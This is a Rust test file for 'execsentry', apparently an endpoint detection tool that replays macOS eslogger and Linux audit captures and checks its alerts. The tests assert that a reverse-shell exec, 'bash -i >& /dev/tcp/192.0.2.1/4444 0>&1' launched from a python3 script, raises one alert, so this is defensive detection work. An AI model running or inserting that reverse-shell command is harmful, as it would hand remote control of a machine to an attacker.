//! `execsentry replay` on macOS eslogger streams, run as a user would, on any OS: the
//! constructed fixtures in `tests/fixtures/macos/`, and the same activity from Linux audit and
//! Endpoint Security giving the same alert (`tests/fixtures/parity/`).

mod cli_support;

use std::path::{Path, PathBuf};

use serde_json::Value;

use cli_support::{run, TempDir};

const SEED_ID: &str = "a1a0375f-22c2-48c0-81a4-7c2d11cc6856";

fn fixture(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(path)
}

fn alerts(stdout: &str) -> Vec<Value> {
    stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("alert line is JSON"))
        .collect()
}

fn summary_value(stderr: &str, key: &str) -> u64 {
    let line = stderr
        .lines()
        .find(|l| l.trim_start().starts_with(&format!("{key}:")))
        .unwrap_or_else(|| panic!("no {key} in summary:\n{stderr}"));
    line.split(':')
        .nth(1)
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("bad {key} line: {line}"))
}

/// `replay FORMAT_ARGS FILE`: exit 0, and the alerts.
fn replay(format: Option<&str>, file: &Path) -> (Vec<Value>, String) {
    let mut args: Vec<&std::ffi::OsStr> = vec!["replay".as_ref()];
    if let Some(f) = format {
        args.push("--format".as_ref());
        args.push(f.as_ref());
    }
    args.push(file.as_os_str());
    let r = run(&args);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    (alerts(&r.stdout), r.stderr)
}

/// python3 (its exec is the first line) forks; the child execs a reverse shell and is killed.
/// One alert, for the shell, with the parent's facts from the process table: the parent's own
/// exec earlier in the stream, found through the fork by its audit token.
#[test]
fn reverse_shell_alerts_with_parent_facts_from_the_table() {
    let (alerts, stderr) = replay(Some("eslogger"), &fixture("macos/reverse_shell.ndjson"));
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let a = &alerts[0];
    assert_eq!(a["rule"]["id"], SEED_ID);
    assert_eq!(a["event"]["kind"], "alert");
    assert_eq!(a["event"]["action"], "exec");
    assert_eq!(a["event"]["module"], "endpoint_security");
    assert_eq!(a["event"]["sequence"], 222);
    assert_eq!(a["@timestamp"], "2026-03-02T10:30:02.001Z");
    let p = &a["process"];
    assert_eq!(p["pid"], 5001);
    assert_eq!(p["name"], "bash");
    assert_eq!(p["executable"], "/bin/bash");
    assert_eq!(
        p["args"],
        serde_json::json!(["/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"])
    );
    assert_eq!(p["args_count"], 3);
    assert_eq!(p["working_directory"], "/Users/alice");
    assert_eq!(p["interactive"], true);
    assert_eq!(p["user"]["id"], "501");
    assert_eq!(p["real_user"]["id"], "501");
    assert_eq!(p["code_signature"]["signing_id"], "com.apple.bash");
    assert_eq!(p["code_signature"]["exists"], true);
    assert_eq!(p["code_signature"]["trusted"], true);
    assert_eq!(
        a["macos"]["es"],
        serde_json::json!({"seq_num": 83, "global_seq_num": 222, "pidversion": 12003, "responsible_pid": 900})
    );
    let parent = &p["parent"];
    assert_eq!(parent["pid"], 5000);
    assert_eq!(parent["name"], "python3");
    assert_eq!(parent["executable"], "/usr/bin/python3");
    assert_eq!(parent["command_line"], "python3 /tmp/.cache/update.py");
    assert_eq!(parent["code_signature"]["signing_id"], "com.apple.python3");
    let (pid, ppid) = (
        p["entity_id"].as_str().unwrap(),
        parent["entity_id"].as_str().unwrap(),
    );
    assert_eq!((pid.len(), ppid.len()), (32, 32));
    assert_ne!(pid, ppid);
    // Two execs evaluated; the fork and the exit only kept the table.
    assert_eq!(summary_value(&stderr, "events"), 2);
    assert_eq!(summary_value(&stderr, "malformed"), 0);
    assert!(!stderr.contains("lost:"), "{stderr}");
}

/// `--format auto` (the default) recognizes every eslogger fixture, both token shapes included,
/// and replays it exactly as `--format eslogger` does.
#[test]
fn auto_detects_eslogger() {
    for (name, execs) in [
        ("exec_fork_exit.ndjson", 1),
        ("array_tokens_v10.ndjson", 1),
        ("setuid_exec.ndjson", 1),
        ("script_exec.ndjson", 1),
        ("reverse_shell.ndjson", 2),
    ] {
        let file = fixture(&format!("macos/{name}"));
        let (auto, stderr) = replay(None, &file);
        assert_eq!(summary_value(&stderr, "events"), execs, "{name}: {stderr}");
        assert_eq!(summary_value(&stderr, "malformed"), 0, "{name}: {stderr}");
        let (fixed, _) = replay(Some("eslogger"), &file);
        let strip = |v: &Vec<Value>| -> Vec<Value> {
            v.iter()
                .map(|a| {
                    let mut a = a.clone();
                    a["event"]["created"] = Value::Null;
                    a["execsentry"] = Value::Null;
                    a
                })
                .collect()
        };
        assert_eq!(strip(&auto), strip(&fixed), "{name}");
    }
}

/// Forced to ECS, the same file is read as documents with none of the fields rules need: no
/// alert. Detection is what makes the difference.
#[test]
fn the_format_matters() {
    let (alerts, _) = replay(Some("ecs"), &fixture("macos/reverse_shell.ndjson"));
    assert!(alerts.is_empty(), "{alerts:?}");
}

/// Broken lines in an eslogger stream are named by line (and column) and skipped; a lost
/// message shows as a sequence gap in the summary.
#[test]
fn malformed_lines_and_gaps_are_reported() {
    let dir = TempDir::new("eslogger-bad");
    let text = std::fs::read_to_string(fixture("macos/reverse_shell.ndjson")).unwrap();
    let l: Vec<&str> = text.lines().collect();
    // The fork (global 221) is lost; a line is cut short; one is not JSON at all.
    let content = format!("{}\n{}\n{}\n{}\n", l[0], &l[1][..200], "garbage", l[2]);
    let file = dir.write("capture.ndjson", &content);
    let r = run(&["replay".as_ref(), file.as_os_str()]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert_eq!(alerts(&r.stdout).len(), 1, "the shell still alerts");
    assert_eq!(summary_value(&r.stderr, "malformed"), 2);
    let name = file.display().to_string();
    assert!(
        r.stderr
            .contains(&format!("{name}:2:200: EOF while parsing")),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains(&format!("{name}:3:1: expected value")),
        "{}",
        r.stderr
    );
    assert_eq!(summary_value(&r.stderr, "lost"), 1, "{}", r.stderr);
}

/// The same activity as a Linux audit log and as an eslogger stream: one alert each, equal in
/// every field a rule reads. Linux sees no forks and names `/usr/bin/bash`; macOS sees forks and
/// `/bin/bash`; the rules see the same thing.
#[cfg(target_os = "linux")]
#[test]
fn linux_audit_and_endpoint_security_give_the_same_alert() {
    let (linux, _) = replay(Some("audit"), &fixture("parity/reverse_shell.audit.log"));
    let (macos, _) = replay(
        Some("eslogger"),
        &fixture("parity/reverse_shell.eslogger.ndjson"),
    );
    assert_eq!((linux.len(), macos.len()), (1, 1), "{linux:?}\n{macos:?}");
    let (l, m) = (&linux[0], &macos[0]);
    for path in [
        "/rule/id",
        "/process/name",
        "/process/args",
        "/process/command_line",
        "/process/parent/name",
        "/process/parent/command_line",
        "/user/id",
        "/event/type",
        "/event/category",
    ] {
        let (lv, mv) = (l.pointer(path), m.pointer(path));
        assert!(lv.is_some(), "{path} missing from the Linux alert");
        assert_eq!(lv, mv, "{path}");
    }
    assert_eq!(l["rule"]["id"], SEED_ID);
    assert_eq!(m["process"]["parent"]["command_line"], "bash -l");
    // Where the sources differ, they say so.
    assert_eq!(l["process"]["executable"], "/usr/bin/bash");
    assert_eq!(m["process"]["executable"], "/bin/bash");
    assert_eq!(l["event"]["module"], "auditd");
    assert_eq!(m["event"]["module"], "endpoint_security");
}
